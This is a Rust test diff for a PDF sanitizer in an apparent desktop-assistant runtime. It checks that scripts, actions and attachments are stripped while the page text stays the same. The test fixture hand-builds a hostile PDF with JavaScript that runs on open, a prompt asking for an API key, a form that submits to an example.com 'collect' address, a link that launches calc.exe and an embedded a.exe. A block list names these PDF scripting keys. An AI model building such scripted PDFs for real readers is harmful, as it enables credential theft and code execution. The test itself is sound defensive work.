@@ -571,3 +571,228 @@ fn every_corpus_pdf_reads_or_names_its_problem() {
         assert!(out["pages"].to_string().contains(expected), "{name}: {out:.2000}");
     }
 }
+
+/// A PDF written by hand that scripts its viewer every way the tests know:
+/// JavaScript on open (the catalog's `/OpenAction`), in the document's name
+/// tree (a prompt for a key), on document and page events (`/AA`), a link
+/// that launches a program, one to a web address, a form field that submits
+/// itself and formats with a script, XFA, an embedded file that opens as an
+/// attachment, and an outline entry whose `GoTo` chains on to JavaScript.
+fn hostile_pdf(text: &str) -> Vec<u8> {
+    let content = format!("BT /F1 24 Tf 72 700 Td ({text}) Tj ET");
+    let objects = [
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 7 0 R /EmbeddedFiles 14 0 R >> \
+         /AA << /WC 8 0 R >> /AcroForm << /Fields [11 0 R] /XFA 12 0 R >> /Outlines 15 0 R >>"
+            .to_owned(),
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
+        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> \
+         /Contents 6 0 R /AA << /O 8 0 R /C 8 0 R >> /Annots [9 0 R 10 0 R 11 0 R 13 0 R] >>"
+            .to_owned(),
+        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
+        "<< /Type /Action /S /JavaScript /JS (app.alert\\('open action ran'\\);) >>".to_owned(),
+        format!("<< /Length {} >>\nstream\n{content}\nendstream", content.len()),
+        "<< /Names [(boot) << /S /JavaScript /JS (app.response\\('Enter your API key'\\);) >>] >>".to_owned(),
+        "<< /S /JavaScript /JS (app.alert\\('event ran'\\);) >>".to_owned(),
+        "<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /Launch /F (calc.exe) >> >>".to_owned(),
+        "<< /Type /Annot /Subtype /Link /Rect [72 550 300 590] /A << /S /URI /URI (https://example.com/steal) >> >>"
+            .to_owned(),
+        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (key) /Rect [72 500 300 540] \
+         /A << /S /SubmitForm /F (https://example.com/collect) >> /AA << /F << /S /JavaScript /JS (1;) >> >> >>"
+            .to_owned(),
+        "<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream".to_owned(),
+        "<< /Type /Annot /Subtype /FileAttachment /Rect [72 450 90 470] /FS << /Type /Filespec /F (a.exe) >> >>"
+            .to_owned(),
+        "<< /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >>".to_owned(),
+        "<< /Type /Outlines /First 16 0 R /Last 16 0 R /Count 1 >>".to_owned(),
+        "<< /Title (Start) /Parent 15 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /ImportData /F (x.fdf) >> >> >>"
+            .to_owned(),
+    ];
+    let mut out = b"%PDF-1.7\n".to_vec();
+    let mut offsets = Vec::new();
+    for (i, body) in objects.iter().enumerate() {
+        offsets.push(out.len());
+        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
+    }
+    let xref = out.len();
+    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
+    for o in offsets {
+        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
+    }
+    out.extend_from_slice(
+        format!(
+            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
+            objects.len() + 1
+        )
+        .as_bytes(),
+    );
+    out
+}
+
+/// What the web UI does before framing a PDF: the host-only `sanitize`
+/// operation in a sandbox holding only its own folder with a copy of the file.
+fn sanitize(input: &Path) -> (Result<Value, deskhand_runtime::wasm::CallError>, tempfile::TempDir) {
+    let work = tempfile::tempdir().unwrap();
+    std::fs::copy(input, work.path().join("in.pdf")).unwrap();
+    let sandbox = deskhand_runtime::wasm::Sandbox {
+        mounts: Vec::new(),
+        limits: Limits::default(),
+        scratch: Some(work.path().to_path_buf()),
+    };
+    let scratch = deskhand_runtime::wasm::SCRATCH_GUEST;
+    let args = json!({"path": format!("{scratch}/in.pdf"), "out": format!("{scratch}/out.pdf")});
+    let pdf = pdf_toolbox().get(deskhand_runtime::tools::BundledTool::Pdf).unwrap();
+    let result = pdf.call(&sandbox, "sanitize", &args.to_string(), None).result;
+    (result.map(|o| o.json), work)
+}
+
+/// Names a scripting viewer acts on; none may be left in an inert copy.
+const SCRIPTING: [&[u8]; 11] = [
+    b"/JavaScript",
+    b"/JS",
+    b"/OpenAction",
+    b"/AA",
+    b"/Launch",
+    b"/SubmitForm",
+    b"/ImportData",
+    b"/URI",
+    b"/XFA",
+    b"/EmbeddedFiles",
+    b"/FileAttachment",
+];
+
+/// Whether the name `name` (`/AA`, not the start of `/AAAAAB+Font`) appears.
+fn has_name(bytes: &[u8], name: &[u8]) -> bool {
+    bytes.windows(name.len() + 1).any(|w| {
+        w.starts_with(name) && matches!(w[name.len()], b' ' | b'\n' | b'\r' | b'\t' | b'<' | b'/' | b'[' | b'(')
+    })
+}
+
+#[test]
+fn a_pdf_made_inert_has_no_script_or_action_and_reads_back_the_same() {
+    let dir = tempfile::tempdir().unwrap();
+    let hostile = dir.path().join("hostile.pdf");
+    std::fs::write(&hostile, hostile_pdf("Quarterly totals: 1,234.50 EUR")).unwrap();
+    assert_eq!(
+        pdfinfo(&hostile, "JavaScript"),
+        "yes",
+        "the test file must script its viewer"
+    );
+
+    let (result, work) = sanitize(&hostile);
+    let out = result.unwrap();
+    assert!(out["removed"]["actions"].as_u64().unwrap() >= 5, "{out}");
+    let inert = work.path().join("out.pdf");
+    let bytes = std::fs::read(&inert).unwrap();
+    for name in SCRIPTING {
+        assert!(
+            !has_name(&bytes, name),
+            "{} is left in the inert copy:\n{}",
+            String::from_utf8_lossy(name),
+            String::from_utf8_lossy(&bytes)
+        );
+    }
+    assert_eq!(pdfinfo(&inert, "JavaScript"), "no");
+    assert_eq!(crate::common::pdftotext(&inert), crate::common::pdftotext(&hostile));
+    assert!(crate::common::pdftotext(&inert).contains("Quarterly totals: 1,234.50 EUR"));
+    // The outline entry still goes to its page.
+    assert!(has_name(&bytes, b"/GoTo"), "{}", String::from_utf8_lossy(&bytes));
+
+    // Only the host runs it, and only into the call's own folder.
+    let fx = Fixture::new();
+    std::fs::copy(&hostile, fx.inbox.join("hostile.pdf")).unwrap();
+    let refused = pdf(
+        &fx,
+        "sanitize",
+        json!({"path": "projects/inbox/hostile.pdf", "out": "output/inert.pdf"}),
+        &[Grant::read_only("projects/inbox")],
+    )
+    .unwrap_err();
+    assert!(matches!(refused, Error::UnknownOperation { .. }), "{refused}");
+    let work = tempfile::tempdir().unwrap();
+    let sandbox = output_writable_sandbox(&fx, work.path());
+    let args = json!({"path": fx.inbox.join("hostile.pdf"), "out": fx.ws.output_dir().join("inert.pdf")});
+    let pdf_tool = pdf_toolbox().get(deskhand_runtime::tools::BundledTool::Pdf).unwrap();
+    let err = pdf_tool
+        .call(&sandbox, "sanitize", &args.to_string(), None)
+        .result
+        .unwrap_err();
+    assert!(err.to_string().contains("must lie in"), "{err}");
+    assert!(output_names(&fx).is_empty());
+}
+
+/// A sandbox that could write output/ and read the inbox, with a scratch folder.
+fn output_writable_sandbox(fx: &Fixture, scratch: &Path) -> deskhand_runtime::wasm::Sandbox {
+    let mut sandbox = fx.sandbox(&[Grant::read_only("projects/inbox")]);
+    sandbox.scratch = Some(scratch.to_path_buf());
+    sandbox
+}
+
+#[test]
+fn every_corpus_pdf_is_made_inert_with_the_same_text_or_refused_in_words() {
+    let Some(dir) = corpus("pdf") else {
+        eprintln!("skipped: no corpus at ../shared/corpus/pdf beside the repository");
+        return;
+    };
+    // Encrypted with an empty user password: decrypted, saved without encryption.
+    for name in [
+        "r2-owner-password.pdf",
+        "r3-empty-password.pdf",
+        "r6-owner-password.pdf",
+    ] {
+        let (result, work) = sanitize(&dir.join(name));
+        result.unwrap_or_else(|e| panic!("{name}: {e}"));
+        let inert = work.path().join("out.pdf");
+        assert_eq!(pdfinfo(&inert, "Encrypted"), "no", "{name}");
+        assert_eq!(
+            crate::common::pdftotext(&inert),
+            crate::common::pdftotext(&dir.join(name)),
+            "{name}"
+        );
+    }
+    // A user password: refused, saying what to do.
+    let (result, _work) = sanitize(&dir.join("r4-user-password.pdf"));
+    let err = result.unwrap_err().to_string();
+    assert!(
+        err.contains("protected by a password") && err.contains("download it"),
+        "{err}"
+    );
+
+    let (mut inert, mut refused) = (0, Vec::new());
+    for file in files_with(&dir, &["pdf"]) {
+        let name = file.file_name().unwrap().to_string_lossy().into_owned();
+        let (result, work) = sanitize(&file);
+        match result {
+            Ok(_) => {
+                let copy = work.path().join("out.pdf");
+                let bytes = std::fs::read(&copy).unwrap();
+                for scripting in [b"/JavaScript".as_slice(), b"/OpenAction", b"/AA", b"/Launch"] {
+                    assert!(
+                        !has_name(&bytes, scripting),
+                        "{name}: {}",
+                        String::from_utf8_lossy(scripting)
+                    );
+                }
+                let original = Command::new("pdftotext").arg(&file).arg("-").output().unwrap();
+                if original.status.success() {
+                    assert_eq!(
+                        crate::common::pdftotext(&copy),
+                        String::from_utf8_lossy(&original.stdout),
+                        "{name}: the inert copy reads differently"
+                    );
+                }
+                inert += 1;
+            }
+            Err(e) => {
+                let msg = e.to_string();
+                assert!(msg.contains("in.pdf: "), "{name}: not a message about the file: {msg}");
+                refused.push(format!("{name}: {msg}"));
+            }
+        }
+    }
+    eprintln!(
+        "corpus: {inert} made inert, {} refused:\n  {}",
+        refused.len(),
+        refused.join("\n  ")
+    );
+    assert!(inert >= 50, "only {inert} corpus PDFs were made inert");
+}
